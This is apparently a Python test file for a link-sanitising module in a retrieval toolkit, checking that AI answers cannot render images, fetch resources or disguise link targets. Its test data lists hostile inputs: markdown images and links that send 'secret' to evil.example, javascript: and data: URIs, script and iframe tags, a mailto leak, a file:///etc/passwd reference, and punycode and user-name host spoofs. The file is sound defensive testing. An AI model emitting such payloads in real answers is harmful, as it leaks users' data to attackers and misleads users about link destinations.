"""An answer can neither fetch anything nor hide where a link goes."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ragkit.text.links import LinkStream, addresses, inert, unlinked

EVIL = "https://evil.example/p?q=secret"
HOSTILE = {
    "picture": f"![图]({EVIL})",
    "picture in a link": f"[![图]({EVIL})]({EVIL})",
    "picture by reference": f"![图][r]\n\n[r]: {EVIL}",
    "reference link": f"看[这里][r]。\n\n[r]: {EVIL} 'title'",
    "short reference link": f"look [here][]\n\n[here]: <{EVIL}>",
    "link": f"请点[这里]({EVIL})",
    "link with a title over lines": f"[here](\n{EVIL}\n'a title')",
    "link in angle brackets": f"[here](<{EVIL}>)",
    "link that is not closed": f"[here]({EVIL} 'x",
    "link with entities": "[here](&#104;ttps://evil.example/p?q=secret)",
    "link without a scheme": "[这里](//evil.example/p?q=secret)",
    "autolink": f"<{EVIL}>",
    "bare address": f"详见{EVIL}。",
    "bare www": "see www.evil.example/p?q=secret now",
    "bare www in mixed case": "see wWw.evil.example/p?q=secret now",
    "upper case": f"HTTPS://EVIL.EXAMPLE/{'x'}",
    "OSC 8": f"\x1b]8;;{EVIL}\x1b\\here\x1b]8;;\x1b\\",
    "split by invisible characters": "https\u200b://evil\u00ad.example/p?q=secret",
    "data": "[这里](data:text/html;base64,PHNjcmlwdD4=)",
    "bare data": "data:text/html;base64,PHNjcmlwdD4=",
    "javascript": "[here](javascript:alert(1))",
    "mailto": "[写信](mailto:thief@evil.example?body=secret)",
    "other schemes": "ftp://evil.example/x and file:///etc/passwd",
    "HTML picture": f"<img src={EVIL}>",
    "HTML picture, not closed": f"<IMG/src='{EVIL}'",
    "HTML link": f'<a href="{EVIL}">这里</a>',
    "HTML frame and script": f"<iframe src='{EVIL}'></iframe><script src={EVIL}></script>",
    "HTML style": f"<link rel=stylesheet href={EVIL}>",
    "punycode": "https://xn--80ak6aa92e.com/",
    "user name": "https://bank.example@evil.example/login",
    "code": f"`{EVIL}` and\n```\n![x]({EVIL})\n```",
    "grown from an allowed one": "https://good.example/docs?q=secret",
    "grown in Chinese": "https://good.example/docs/密码是一二三",
}
LIVE = (
    "https://",
    "http://",
    "](",
    "<img",
    "<a ",
    "<iframe",
    "<script",
    "<link",
    "javascript:",
    "data:text",
    "mailto:",
    "www.evil",
)
ALLOWED = addresses(["文档在 https://good.example/docs。", "[paper](https://good.example/a_(b))", "www.good.example/x"])


def plain(text: str) -> str:
    return unlinked(text, ALLOWED).text


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_nothing_that_nobody_vouches_for_is_left(text: str) -> None:
    shown = plain(text).replace("https://good.example/docs/ 密码", "")
    assert not [sign for sign in LIVE if sign in shown.lower()]
    assert not [target for target in unlinked(text, ALLOWED).removed if "http://" in target or "https://" in target]


@pytest.mark.parametrize("size", [1, 2, 5, 23])
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_nor_while_it_is_written(text: str, size: int) -> None:
    stream = LinkStream(ALLOWED)
    pieces = [stream.feed(text[i : i + size]) for i in range(0, len(text), size)]
    shown = "".join([*pieces, stream.close()]).replace("https://good.example/docs/ 密码", "")
    assert not [sign for sign in LIVE if sign in shown.lower()]


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_the_target_that_went_is_told(text: str) -> None:
    assert unlinked(text, ALLOWED).removed or "good.example" in text


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("见https://good.example/docs。", "见https://good.example/docs。"),
        ("(https://good.example/docs/)", "(https://good.example/docs/)"),
        ("[文档](https://good.example/docs)", "文档 (https://good.example/docs)"),
        ("[https://good.example/docs](https://good.example/docs)", "https://good.example/docs"),
        ("[a](https://good.example/a_(b))", "a (https://good.example/a_(b))"),
        ("HTTPS://Good.example/docs", "HTTPS://Good.example/docs"),
        ("www.good.example/x, then", "www.good.example/x, then"),
        ("https://good.example/docs的第三节", "https://good.example/docs 的第三节"),
    ],
)
def test_what_a_source_says_stays_with_its_target_in_sight(written: str, shown: str) -> None:
    assert unlinked(written, ALLOWED).text == shown
    assert unlinked(shown, ALLOWED).text == shown


def test_an_address_that_looks_like_another_names_its_host() -> None:
    text = "https://bank.example@evil.example/ 和 https://xn--80ak6aa92e.com/ 和 https://аррӏе.com/"
    shown = unlinked(text, addresses([text])).text
    assert shown == (
        "https://bank.example@evil.example/ (host: evil.example) 和 https://xn--80ak6aa92e.com/ "
        "(host: xn--80ak6aa92e.com) 和 https://аррӏе.com/ (host: xn--80ak6aa92e.com)"
    )
    assert unlinked(shown, addresses([text])).text == shown


@pytest.mark.parametrize(
    "text",
    [
        "比例是 3:4，key:value，the data: it holds",
        "`fns[0](x)`、arr[i]、[见](notes/rnn.md#a)",
        "<s> 和 <pad>、List<int>、if a <b and c> d、<|im_start|>",
        "注意力[1]。详见[1]: 第三行",
        "$a_{i}$ http:/ /x std::vector",
    ],
)
def test_what_is_no_link_stays_as_it_is(text: str) -> None:
    assert unlinked(text, frozenset()).text == text


@given(st.text(alphabet="ab：。[]()!<>:/ \nhtps.@密", max_size=80), st.integers(1, 9))
def test_cleaning_twice_changes_nothing_and_leaves_no_link(text: str, size: int) -> None:
    once = unlinked(text, frozenset()).text
    assert not re.search("[a-z]{2}://", once)
    assert unlinked(once, frozenset()).text == once


def test_a_target_that_was_taken_out_is_written_to_be_read() -> None:
    assert inert("https://evil.example/\x1b[2Jx") == "hxxps://evil.example/\ufffd[2Jx"
    assert inert("javascript:alert(1)") == "javascript[:]alert(1)"


@pytest.mark.parametrize("piece", ["[", "![", "](", "[a](", "<a ", "https://", "<img ", "[[a]", "(("])
def test_long_hostile_text_takes_time_in_proportion(piece: str) -> None:
    began = time.process_time()
    unlinked(piece * 4000, frozenset())
    assert time.process_time() - began < 2
